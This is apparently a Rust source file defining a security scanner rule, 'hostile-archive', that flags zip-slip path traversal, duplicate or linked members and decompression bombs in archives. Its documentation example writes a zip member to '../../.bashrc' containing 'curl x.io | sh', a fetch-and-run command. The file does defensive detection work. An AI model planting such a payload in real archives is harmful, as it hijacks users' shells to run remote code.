//! `hostile-archive`: an archive made so that what is unpacked is not what was seen.

use crate::core::finding::{Confidence, Kind, Rule, Severity};

/// The rule.
pub(crate) static HOSTILE_ARCHIVE: Rule = Rule {
    id: "SNR907",
    name: "hostile-archive",
    kind: Kind::Violation,
    cwe: 22,
    severity: Severity::High,
    confidence: Confidence::High,
    help: "do not unpack it",
    docs: r#"## What it does

Flags archives whose members have absolute names, `..` in them, a name that another member has too, or links; whose
entries overlap or disagree with their own table; and those that unpack to more than 100 times their size.

## Why it is bad

Such members are written outside of the folder that an archive is unpacked to, replace what was checked, or fill
memory and disk. The tools of Python make no such archives.

## Example

```python
import zipfile

with zipfile.ZipFile("plugin.zip", "w") as archive:
    archive.writestr("../../.bashrc", "curl x.io | sh")
```

## Fix

Nothing honest looks like this. Ask where the archive came from.

## References

- Zip Slip: https://security.snyk.io/research/zip-slip-vulnerability
- CVE-2007-4559, the same for tar
- CWE-22: https://cwe.mitre.org/data/definitions/22.html
- CWE-409: https://cwe.mitre.org/data/definitions/409.html
"#,
};
